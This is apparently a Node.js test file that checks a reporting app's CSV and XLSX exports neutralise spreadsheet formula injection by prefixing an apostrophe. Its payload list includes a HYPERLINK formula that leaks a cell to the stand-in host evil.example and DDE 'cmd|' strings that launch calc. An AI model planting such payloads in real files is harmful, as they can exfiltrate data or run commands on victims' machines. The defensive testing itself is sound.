// Finding 2 of issue 9: text a commune types must not come out of a CSV
// export as a live spreadsheet formula. Every text cell that begins with
// '=', '+', '-', '@', a tab or a carriage return is neutralised with a
// leading apostrophe (OWASP's CSV injection advice), in the download and in
// `ecdreport export`; the XLSX keeps such text as a text cell, never a formula.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startServer, Client, ecd } from '../lib/server.mjs';

let srv, commune;
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&B5,"Xem")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
];

before(async () => {
  srv = await startServer();
  commune = new Client(srv.base);
  await commune.login('xa.myhoa');
});
after(async () => { await srv.stop(); });

function parseCsv(text) {
  const out = [[]];
  let field = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false; else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { out.at(-1).push(field); field = ''; } else if (ch === '\r' && text[i + 1] === '\n') continue;
    else if (ch === '\n') { out.at(-1).push(field); field = ''; out.push([]); } else field += ch;
  }
  if (out.at(-1).length === 0) out.pop();
  return out;
}

async function saveNarrative(text) {
  const cur = (await commune.get('/api/reports/30052/2024')).json;
  const r = await commune.put('/api/reports/30052/2024', { values: { narrative: text }, version: cur.version });
  assert.equal(r.status, 200, r.text);
}

async function download(path) {
  const res = await fetch(srv.base + path, { headers: { cookie: commune.cookieHeader() } });
  assert.equal(res.status, 200);
  return Buffer.from(await res.arrayBuffer());
}

function narrativeCell(bytes) {
  const table = parseCsv(bytes.subarray(3).toString('utf8'));
  for (const row of table) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `live formula cell: ${JSON.stringify(cell)}`);
  return table.find((row) => row[0] === 'narrative')[2];
}

test('a narrative that starts like a formula comes out of every CSV as text', async () => {
  for (const p of PAYLOADS) {
    await saveNarrative(p);
    const web = narrativeCell(await download('/reports/30052/2024/export.csv'));
    assert.equal(web, `'${p}`, 'download: the text kept whole, behind an apostrophe');
    const cli = narrativeCell(Buffer.from(ecd(srv.db, ['export', '--unit', '30052', '--period', '2024', '--format', 'csv']), 'utf8'));
    assert.equal(cli, `'${p}`, 'export command');
  }
});

test('ordinary text is left alone', async () => {
  await saveNarrative('Tổ chức 3 buổi truyền thông, "tốt".');
  assert.equal(narrativeCell(await download('/reports/30052/2024/export.csv')), 'Tổ chức 3 buổi truyền thông, "tốt".');
});

test('the XLSX keeps such text as a text cell, never a formula', async () => {
  await saveNarrative(PAYLOADS[0]);
  const file = join(srv.dir, 'x.xlsx');
  writeFileSync(file, await download('/reports/30052/2024/export.xlsx'));
  const sheet = execFileSync('unzip', ['-p', file, 'xl/worksheets/sheet1.xml'], { encoding: 'utf8' });
  const strings = execFileSync('unzip', ['-p', file, 'xl/sharedStrings.xml'], { encoding: 'utf8' });
  assert.doesNotMatch(sheet, /<f>/, 'no formula in the sheet');
  assert.ok(strings.includes('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;B5,&quot;Xem&quot;)') ||
    strings.includes('=HYPERLINK("http://evil.example/?x="&amp;B5,"Xem")'), 'the text is a shared string');
});

test('the roll-up\'s units.csv neutralises a unit name that reads as a formula', async () => {
  execFileSync('sqlite3', [srv.db, "UPDATE unit SET name = '=1+cmd|'' /C calc''!A0' WHERE code = '30052'"]);
  const district = new Client(srv.base);
  await district.login('huyen.thapmuoi');
  const res = await fetch(srv.base + '/reports/872/2024/units.csv', { headers: { cookie: district.cookieHeader() } });
  assert.equal(res.status, 200);
  const table = parseCsv(Buffer.from(await res.arrayBuffer()).subarray(3).toString('utf8'));
  for (const row of table) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `live formula cell: ${cell}`);
  assert.ok(table.some((row) => row[1] === "'=1+cmd|' /C calc'!A0"), 'the name kept whole behind an apostrophe');
});
